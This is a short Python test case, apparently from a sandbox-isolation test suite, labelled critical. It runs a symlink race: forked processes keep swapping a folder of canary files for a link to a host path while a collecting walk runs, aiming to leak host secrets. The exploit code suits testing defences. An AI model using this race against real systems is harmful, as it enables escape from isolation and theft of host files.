# Moves a folder under the walk that collects it, and puts a link to the host's in its place.
# severity: critical
# escape: secret, survivor
import os

from raw import A, end, fork, tried

os.mkdir("d")
for number in range(40):
    with open(f"d/canary{number}.txt", "w") as file:
        file.write("fine")


def move():
    os.setsid()
    while True:
        try:
            os.rename("d", "e")
            os.symlink(A.around, "d")
            os.unlink("d")
            os.rename("e", "d")
        except OSError:
            os._exit(0)


for _ in range(2):
    fork(move)
tried()
end(exit_code=0)
os._exit(0)
